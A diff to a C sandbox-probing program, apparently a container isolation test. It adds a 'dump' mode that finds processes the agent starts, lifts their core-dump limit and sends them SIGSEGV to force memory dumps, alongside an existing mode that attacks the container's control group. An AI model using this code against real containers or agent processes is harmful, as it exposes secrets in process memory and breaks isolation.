@@ -1,10 +1,13 @@
 /*
  * Requests from the kernel what containers must not get, and prints the errors. 0 is success. "lift" attacks
- * the container's control group instead.
+ * the container's control group instead, "dump SECONDS" the processes that the agent starts in the container.
  */
 #include <sys/socket.h>
+#include <linux/resource.h>
 #include <linux/sched.h>
+#include <linux/time_types.h>
 #include <linux/vm_sockets.h>
+#include <stdbool.h>
 
 static void try(const char *name, long result)
 {
@@ -36,12 +39,57 @@ static int lift_limit(void)
 	return 0;
 }
 
+static long seconds(void)
+{
+	struct __kernel_timespec now;
+
+	syscall(__NR_clock_gettime, 1, &now);
+	return now.tv_sec;
+}
+
+/* Whether the process has not executed its program yet, so that its memory is a copy of the agent's. */
+static bool is_of_agent(pid_t pid)
+{
+	char path[32] = "/proc/", name[6] = "";
+	int fd;
+
+	itoa_r(pid, path + strlen(path));
+	strlcat(path, "/comm", sizeof(path));
+	fd = open(path, O_RDONLY);
+	read(fd, name, sizeof(name) - 1);
+	close(fd);
+	return strcmp(name, "init\n") == 0;
+}
+
+/* Makes processes dump their memory, with the rights of a user over his own processes. */
+static unsigned dump(long end)
+{
+	static const struct rlimit unlimited = { .rlim_cur = RLIM_INFINITY, .rlim_max = RLIM_INFINITY };
+	unsigned killed = 0;
+	pid_t next = getpid() + 1;
+
+	while (seconds() < end) {
+		if (kill(next, 0) < 0 && kill(next + 1, 0) < 0)
+			continue;
+		while (is_of_agent(next)) {
+			syscall(__NR_prlimit64, next, RLIMIT_CORE, &unlimited, NULL);
+			killed += kill(next, SIGSEGV) == 0;
+		}
+		next++;
+	}
+	return killed;
+}
+
 int main(int argc, char **argv)
 {
 	char log[64];
 
 	if (argc == 2 && strcmp(argv[1], "lift") == 0)
 		return lift_limit();
+	if (argc == 3 && strcmp(argv[1], "dump") == 0) {
+		printf("%u signals\n", dump(seconds() + atoi(argv[2])));
+		return 0;
+	}
 	printf("effective user %d\n", (int)syscall(__NR_geteuid));
 	try("socket(AF_VSOCK)", socket(AF_VSOCK, SOCK_STREAM, 0));
 	/* The kernel uses the lower half only. */
